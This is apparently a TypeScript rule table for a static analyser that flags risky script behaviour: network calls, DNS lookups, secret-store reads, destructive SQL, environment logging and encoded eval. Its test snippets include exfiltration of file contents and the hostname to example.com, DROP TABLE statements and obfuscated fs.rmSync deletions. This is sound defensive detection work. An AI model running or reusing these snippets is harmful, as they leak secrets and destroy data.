import { act, gives, option, plain, shows, type CallEffect, type CallRow } from "../effects.ts";
import { decodePercent } from "../reading/literals.ts";
import { emitRequest, request, requestWith, resolves, sends } from "../network.ts";
import { opensDatabase } from "../databases.ts";
import { runsSql } from "../dialects/sql.ts";
import { fromBase64Value, fromCodes, fromHexValue } from "../texts.ts";
import { origin } from "../types.ts";
import { nothing } from "../values.ts";

const httpRequest: CallEffect = (run, call) => {
  const host = option(call, "hostname")?.text ?? option(call, "host")?.text;
  const given = option(call, "port")?.text;
  const port = given !== undefined && /^\d{1,5}$/.test(given) && !/:\d/.test(host ?? "") ? `:${given}` : "";
  const url =
    call.args[0]?.text === undefined && host !== undefined
      ? { text: `${call.callee.name?.startsWith("http.") ? "http" : "https"}://${host}${port}${option(call, "path")?.text ?? "/"}` }
      : (call.args[0] ?? nothing);
  return emitRequest(run, call, option(call, "method")?.text ?? "GET", url);
};

/** Networks, databases, messages, what is shown, and texts. */
export const scriptWorld = (): readonly CallRow[] => [
  {
    calls: "fetch got superagent undici.request ky",
    effect: requestWith(9),
    hits: ["fetch(u, { method: 'POST' })", "fetch('https://example.com/a')"],
    misses: ["const fetch = 1"],
  },
  { calls: "axios", effect: requestWith(9), hits: ["axios({ url: u, method: 'delete' })"], misses: ["axios.create()"] },
  {
    calls: "axios.get axios.head got.get superagent.get http.get https.get ky.get",
    effect: request("GET"),
    hits: ["axios.get('https://example.com')"],
    misses: ["new Map().get('a')"],
  },
  {
    calls: "axios.post got.post superagent.post ky.post",
    effect: request("POST"),
    hits: ["require('axios').post(u, {})"],
    misses: ["axios"],
  },
  { calls: "axios.put got.put superagent.put ky.put", effect: request("PUT"), hits: ["axios.put(u)"], misses: ["axios"] },
  { calls: "axios.patch got.patch superagent.patch ky.patch", effect: request("PATCH"), hits: ["axios.patch(u)"], misses: ["axios"] },
  {
    calls: "axios.delete got.delete superagent.delete superagent.del ky.delete",
    effect: request("DELETE"),
    hits: ["axios.delete(u)"],
    misses: ["new Map().delete('a')"],
  },
  {
    calls: "http.request https.request axios.request",
    effect: httpRequest,
    hits: ["https.request({ host: 'example.com', method: 'POST' })"],
    misses: ["request"],
  },
  {
    calls: "dns.lookup dns.resolve dns.resolveTxt dns.resolve4",
    effect: resolves,
    hits: ["dns.lookup(fs.readFileSync('a') + '.example.com')"],
    misses: ["dns.lookup('example.com')"],
  },
  {
    calls: "os.hostname os.userInfo os.networkInterfaces",
    effect: gives({ from: origin.host }),
    hits: ["fetch('https://example.com/?h=' + os.hostname())"],
    misses: ["console.log(os.hostname())"],
  },
  {
    calls: ".write .send",
    effect: (run, call) => (call.receiver?.thing === "socket" ? sends(run, call) : shows(run, { ...call, receiver: nothing })),
    hits: ["const s = net.connect(1, 'example.com'); s.write('x')"],
    misses: ["process.stdout.write('a')"],
  },
  { calls: ".sendMail", effect: act("message"), hits: ["t.sendMail({})"], misses: ["sendMail"] },
  {
    calls: "keytar.getPassword keytar.findPassword keytar.findCredentials .getSecretValue .accessSecretVersion",
    effect: act("read-secret"),
    hits: ["require('keytar').getPassword('a', 'b')", "client.getSecretValue({ SecretId: 'a' })"],
    misses: ["require('keytar')", "client.listSecrets({})"],
  },
  {
    calls:
      ".query .executeRaw .executeRawUnsafe .queryRaw .queryRawUnsafe .raw .execute .executeMultiple .executeSql " +
      ".exec .run .all .each .prepare .prepareQuery .batch .unsafe",
    effect: runsSql(),
    hits: ["pool.query('DROP TABLE a')", "prisma.$executeRawUnsafe('TRUNCATE a')"],
    misses: ["pool.query('SELECT 1')", "/a/.exec('DROP')", "app.run(1)"],
  },
  {
    calls: "sqlite.DatabaseSync better-sqlite3 bun:sqlite.Database sqlite3.Database sqlite.open libsql duckdb.Database",
    effect: opensDatabase,
    hits: ["const { DatabaseSync } = require('node:sqlite'); new DatabaseSync('a.db').prepare('DROP TABLE t').run()"],
    misses: ["const { DatabaseSync } = require('node:sqlite'); new DatabaseSync(':memory:').exec('DROP TABLE t')"],
  },
  {
    calls:
      "console.log console.error console.info console.warn console.dir console.table console.debug JSON.stringify util.inspect " +
      "Object.entries Object.values process.stdout.write String",
    effect: shows,
    hits: ["console.log(process.env)", "console.log(process.env.API_TOKEN)", "console.log(JSON.stringify({ ...process.env }))"],
    misses: ["console.log(process.env.NODE_ENV)", "console.log(process.env.API_TOKEN ? 'set' : 'unset')"],
  },
  { calls: "Boolean Object.keys", effect: plain, hits: [], misses: ["console.log(Boolean(process.env.API_KEY))"] },
  {
    calls: "atob",
    effect: (_run, call) => fromBase64Value(call.args[0]),
    hits: ["fs.rmSync(atob('YWJj'))"],
    misses: ["console.log(atob('YWJj'))"],
  },
  {
    calls: "Buffer.from",
    effect: (_run, call) => {
      const codec = call.args[1]?.text ?? "utf8";
      if (call.args[0]?.items) return fromCodes(call.args[0].items);
      return /base64/i.test(codec)
        ? fromBase64Value(call.args[0])
        : codec === "hex"
          ? fromHexValue(call.args[0])
          : (call.args[0] ?? nothing);
    },
    hits: ["eval(Buffer.from('66732e726d53796e6328226122293b', 'hex').toString())"],
    misses: ["Buffer.from('a').toString('base64')"],
  },
  {
    calls: "String.fromCharCode String.fromCodePoint",
    effect: (_run, call) => fromCodes(call.args),
    hits: ["eval(String.fromCharCode(102, 115, 46, 114, 109, 83, 121, 110, 99, 40, 39, 97, 39, 41))"],
    misses: ["String.fromCharCode(97)"],
  },
  {
    calls: "decodeURIComponent unescape",
    effect: (_run, call) => (call.args[0]?.text === undefined ? nothing : { ...call.args[0], text: decodePercent(call.args[0].text) }),
    hits: ["eval(decodeURIComponent('fs.rmSync(%22a%22)'))"],
    misses: ["decodeURIComponent('a')"],
  },
];
